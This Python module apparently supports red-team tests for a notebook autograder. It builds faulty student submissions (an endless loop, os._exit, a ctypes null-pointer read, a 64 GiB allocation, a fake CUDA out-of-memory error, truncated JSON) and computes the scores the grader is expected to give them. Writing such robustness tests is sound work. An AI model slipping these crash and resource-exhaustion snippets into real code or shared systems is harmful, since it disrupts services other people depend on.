# renamed notebook, a deleted, duplicated or moved test cell, another kernelspec, an edited test cell with raised
# points) are the same staging code for every lab: tests/test_submission.py grades each of them, with exact scores,
# on the fixture lab, where a grading takes a few seconds instead of half a minute. Here: faults of the running
# kernel on a real lab, and the two submissions nothing can be graded from.
FAULTY = [
    RedTeamCase("bad01_endless_loop", "a cell of its own loops forever (cut by the cell time limit)",
                lambda ref: {f"{LAB}.ipynb": insert_after(ref, "q1_2_latency_tests", "while True:\n    pass\n")}),
    RedTeamCase("bad02_os_exit", "the gemm_io answer cell calls os._exit: the kernel dies there",
                with_answer("q1_4_gemm_io", lambda ref: ref + "\nimport os\nos._exit(3)\n"), {"q1_4_gemm_io_tests"}),
    RedTeamCase("bad03_segfault", "the gemm_io answer cell dereferences a null pointer",
                with_answer("q1_4_gemm_io", lambda ref: ref + "\nimport ctypes\nctypes.string_at(0)\n"), {"q1_4_gemm_io_tests"}),
    RedTeamCase("bad04_memory_hog", "a cell of its own allocates 64 GiB (more than the sandbox's cap or the machine)",
                lambda ref: {f"{LAB}.ipynb": insert_after(ref, "q1_2_latency_tests", "_hog = bytearray(64 * 2**30)\n")}),
    RedTeamCase("bad05_cuda_oom", "the gemm answer cell raises CUDA out-of-memory before defining gemm",
                with_answer("q1_1_gemm", lambda ref: 'raise torch.cuda.OutOfMemoryError("CUDA out of memory. Tried to allocate 80.00 GiB")\n' + ref),
                {"q1_1_gemm_tests"}),
    RedTeamCase("bad06_truncated", "truncated JSON", lambda ref: {f"{LAB}.ipynb": notebook_json(ref)[:5000]}, ALL),
    RedTeamCase("bad07_no_notebook", "the folder holds no notebook", lambda ref: {"README.txt": "forgot to attach"}, ALL),
]

CASES = ADVERSARIAL + BOUNDARY + METHOD + FAULTY


def write_case(case: RedTeamCase, reference, folder) -> None:
    """Write ``case``'s submission files into ``folder`` (``submitted/<student>/lab1``)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in case.build(reference).items():
        if isinstance(content, nbformat.NotebookNode):
            content = nbformat.writes(content)
        (folder / name).write_text(content if isinstance(content, str) else json.dumps(content))


# ---------------------------------------------------------------------------------------------------------------
# What the red-team tests grade and expect (tests/test_redteam.py, tests/test_redteam_controls.py)
TEST_POINTS = {grade_id(c): cell_points(c) for c in SOURCE.cells if is_autograded_test(c)}  # bonus tests: their bonus
# Short cell limit so the endless loop costs little; every honest Lab 1 cell takes a few seconds at quick scale.
GRADING_ENV = {"EFFICIENT_AI_CELL_TIMEOUT_S": "45", "EFFICIENT_AI_SANDBOX": "on"}


@contextmanager
def environment(values: dict[str, str]):
    """``os.environ`` updated with ``values`` inside the block (grading subprocesses inherit it)."""
    saved = {key: os.environ.get(key) for key in values}
    os.environ.update(values)
    try:
        yield
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value


def expected_scores(zero) -> dict[str, float]:
    """Every autograded test cell's points, 0 for the grade ids in ``zero`` (or everywhere for ``ALL``)."""
    return {gid: 0.0 if zero == ALL or gid in zero else points for gid, points in TEST_POINTS.items()}


RECORDING_TESTS = recording_tests(SOURCE)  # the test cells a recording bypass zeroes


def case_expected(case: RedTeamCase, guard: bool = True) -> dict[str, float]:
    """What ``case`` must score per autograded test cell, read from the lab (points, check weights); with
    ``guard=False`` (the controls), the cells only the guard zeroes earn what their wrong answer keeps instead."""
    if case.zero == ALL:
        return lab_expected_scores(SOURCE, zero_all=True)
    zero = set(case.zero) if guard else set(case.zero) - case.guarded
    return lab_expected_scores(SOURCE, zero, case.keeps, case.bypasses_recording, loses=case.loses)


def autograded_scores(scores, student: str) -> dict[str, float | None]:
    """A student's score per autograded test cell (None where the gradebook has none)."""
    cells = scores[student].cells if student in scores else {}
    return {gid: cells[gid].score if gid in cells else None for gid in TEST_POINTS}
